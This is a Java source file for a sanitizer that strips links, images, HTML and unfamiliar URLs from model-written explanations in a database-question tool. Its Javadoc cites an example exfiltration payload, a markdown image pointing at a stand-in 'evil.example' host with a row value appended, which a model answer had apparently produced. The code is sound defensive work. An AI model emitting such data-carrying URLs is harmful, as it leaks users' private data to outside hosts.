package io.askdb.explanation;

import java.util.ArrayList;
import java.util.Collection;
import java.util.EnumSet;
import java.util.List;
import java.util.Objects;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.node.LinkReferenceDefinition;
import org.commonmark.node.Node;
import org.commonmark.node.SourceSpan;
import org.commonmark.parser.IncludeSourceSpans;
import org.commonmark.parser.Parser;
import org.nibor.autolink.LinkExtractor;
import org.nibor.autolink.LinkSpan;
import org.nibor.autolink.LinkType;

/**
 * Takes links and images out of text written for the user (an explanation, a caveat, a clarifying
 * question), so that a client that renders markdown or HTML never fetches or offers a URL that a
 * model built from row data (issue 16: an answer echoed {@code ![x](https://evil.example/?d=<row value>)}).
 * The rows themselves are never changed.
 *
 * <p>The markdown is read by commonmark-java (the CommonMark reference grammar, with source
 * positions), and only the pieces it finds are rewritten; all other text stays byte for byte:
 * <ul>
 *   <li>an image, inline or by reference ({@code ![alt](url)}, {@code ![alt][ref]}) becomes its alt text;</li>
 *   <li>a link ({@code [text](url)}, {@code [text][ref]}) becomes its text, an autolink
 *       ({@code <https://...>}) its bare URL (then read as below);</li>
 *   <li>raw HTML ({@code <img src=...>}, {@code <a href=...>}) loses its tags, and an HTML block is
 *       dropped but for the text between its tags; a link reference definition line is dropped;</li>
 *   <li>a bare URL, {@code www.} address or e-mail address, found by the autolink library that
 *       GitHub-flavoured renderers use, stays only when it appears as it is in one of the sources
 *       (the question, its evidence, a cell of the rows): such a URL carries nothing that the user
 *       does not already see. Any other one (built by the writer, perhaps from several cells)
 *       becomes {@value #REMOVED}.</li>
 * </ul>
 * The rewriting is repeated until nothing changes, so a link inside an image's alt text goes too.
 * Code spans and code blocks keep their text (a renderer shows them literally), but a URL in them
 * is still read as a bare URL.
 *
 * @since 0.5
 */
public final class LinkFreeText {
    /** What a removed URL is replaced with. */
    public static final String REMOVED = "(link removed)";
    private static final int MAX_PASSES = 8;
    private static final Parser PARSER = Parser.builder().includeSourceSpans(IncludeSourceSpans.BLOCKS_AND_INLINES).build();
    private static final LinkExtractor URLS = LinkExtractor.builder()
            .linkTypes(EnumSet.of(LinkType.URL, LinkType.WWW, LinkType.EMAIL)).build();

    private LinkFreeText() {
    }

    /**
     * @param text    the text for the user; null is read as empty
     * @param sources the texts a bare URL may be copied from as it is (question, evidence, cell
     *                values); not null, null elements skipped
     * @return the text without images, links, HTML tags and URLs not found in a source
     */
    public static String of(String text, Collection<String> sources) {
        Objects.requireNonNull(sources, "sources");
        if (text == null || text.isEmpty()) return "";
        String out = text;
        for (int pass = 0; pass < MAX_PASSES; pass++) {
            String next = markdownPass(out);
            if (next.equals(out)) return bareUrls(out, sources);
            out = next;
        }
        // nested deeper than any writer nests by accident: keep none of it
        return "The explanation was withheld: it kept nesting links and images.";
    }

    /** One rewrite of the outermost images, links, HTML and reference definitions. */
    private static String markdownPass(String text) {
        List<int[]> cuts = new ArrayList<>(); // start, end, index into replacements
        List<String> replacements = new ArrayList<>();
        PARSER.parse(text).accept(new AbstractVisitor() {
            @Override
            public void visit(Image image) {
                cut(image, inner(text, image));
            }

            @Override
            public void visit(Link link) {
                cut(link, inner(text, link));
            }

            @Override
            public void visit(HtmlInline html) {
                cut(html, "");
            }

            @Override
            public void visit(HtmlBlock html) {
                int[] at = span(html);
                if (at != null) cut(html, tagsOut(text.substring(at[0], at[1])));
            }

            @Override
            public void visit(LinkReferenceDefinition definition) {
                cut(definition, "");
            }

            private void cut(Node node, String replacement) {
                int[] at = span(node);
                if (at == null) return;
                cuts.add(new int[] {at[0], at[1], replacements.size()});
                replacements.add(replacement);
            }
        });
        if (cuts.isEmpty()) return text;
        StringBuilder out = new StringBuilder(text);
        cuts.sort((a, b) -> Integer.compare(b[0], a[0]));
        int floor = Integer.MAX_VALUE;
        for (int[] c : cuts) {
            if (c[1] > floor) continue; // inside one already cut (never, as children are not visited)
            out.replace(c[0], c[1], replacements.get(c[2]));
            floor = c[0];
        }
        return out.toString();
    }

    /** The source of a link's or image's children: its text, or an image's alt text. */
    private static String inner(String text, Node node) {
        Node first = node.getFirstChild();
        Node last = node.getLastChild();
        int[] a = first == null ? null : span(first);
        int[] b = last == null ? null : span(last);
        if (first == null && !(node instanceof Link)) return "";
        if (a != null && b != null) return text.substring(a[0], b[1]);
        // an autolink (<https://...>) whose URL child has no position: its URL, left bare for the URL rule
        int[] whole = span(node);
        String source = whole == null ? "" : text.substring(whole[0], whole[1]);
        return source.length() > 2 && source.startsWith("<") && source.endsWith(">") ? source.substring(1, source.length() - 1) : "";
    }

    /**
     * An HTML block without its tags: the text between them is kept. The block is parsed as inline
     * content of a paragraph (a letter put before it stops it opening another HTML block), so the
     * tags are found by the same grammar.
     */
    private static String tagsOut(String html) {
        String probe = "x" + html.replace("\n", "\nx");
        String cleaned = markdownPass(probe);
        return cleaned.replace("\nx", "\n").substring(1);
    }

    /** @return the start and end offsets of a node in the input, or null when it has no source span */
    private static int[] span(Node node) {
        List<SourceSpan> spans = node.getSourceSpans();
        if (spans.isEmpty()) return null;
        SourceSpan first = spans.get(0);
        SourceSpan last = spans.get(spans.size() - 1);
        return new int[] {first.getInputIndex(), last.getInputIndex() + last.getLength()};
    }

    private static String bareUrls(String text, Collection<String> sources) {
        StringBuilder out = new StringBuilder();
        int at = 0;
        for (LinkSpan link : URLS.extractLinks(text)) {
            String url = text.substring(link.getBeginIndex(), link.getEndIndex());
            if (inSources(url, sources)) continue;
            out.append(text, at, link.getBeginIndex()).append(REMOVED);
            at = link.getEndIndex();
        }
        if (at == 0) return text;
        return out.append(text.substring(at)).toString();
    }

    private static boolean inSources(String url, Collection<String> sources) {
        for (String s : sources) {
            if (s != null && s.contains(url)) return true;
        }
        return false;
    }
}
